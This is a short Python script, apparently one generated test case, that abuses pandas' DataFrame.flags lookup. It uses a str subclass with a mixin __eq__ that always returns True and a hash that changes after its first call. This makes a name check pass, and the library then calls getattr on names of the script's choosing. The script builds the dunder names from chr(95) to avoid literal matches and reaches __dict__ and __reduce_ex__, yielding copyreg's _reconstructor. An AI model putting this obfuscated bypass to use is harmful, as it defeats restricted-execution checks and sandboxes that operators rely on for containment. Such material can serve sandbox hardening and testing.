# source: pandas 1.5.3 pandas/core/flags.py Flags.__getitem__ (`if key not in self._keys: raise`, then `getattr(self, key)`); CPython 3.11 dict/set lookup of a str subclass (its own __hash__, and its __eq__ tried first); CPython Lib/copyreg.py _reduce_ex
# family: a string whose __eq__/__hash__ come from a mixin (the check refuses them only when defined in the str subclass itself) passes a library's check of a name, which then names a getattr
# goal: getattr by names built at run time on a pandas object: prints df.flags.__dict__ and calls df.flags.__reduce_ex__(1), which hands back copyreg's _reconstructor
import pandas as pd


class Loose:
    calls = 0

    def __eq__(self, other):
        return True

    def __hash__(self):
        # first hash: the set lookup in Flags._keys; later ones: the attribute lookup by the real name
        self.calls = self.calls + 1
        if self.calls == 1:
            return hash("allows_duplicate_labels")
        return hash("" + self)


class Key(Loose, str):
    pass


df = pd.DataFrame({"a": [1.0]})
print(df.flags[Key("".join([chr(95) * 2, "dict", chr(95) * 2]))])
reduce = df.flags[Key("".join([chr(95) * 2, "reduce", chr(95), "ex", chr(95) * 2]))]
print(reduce(1))
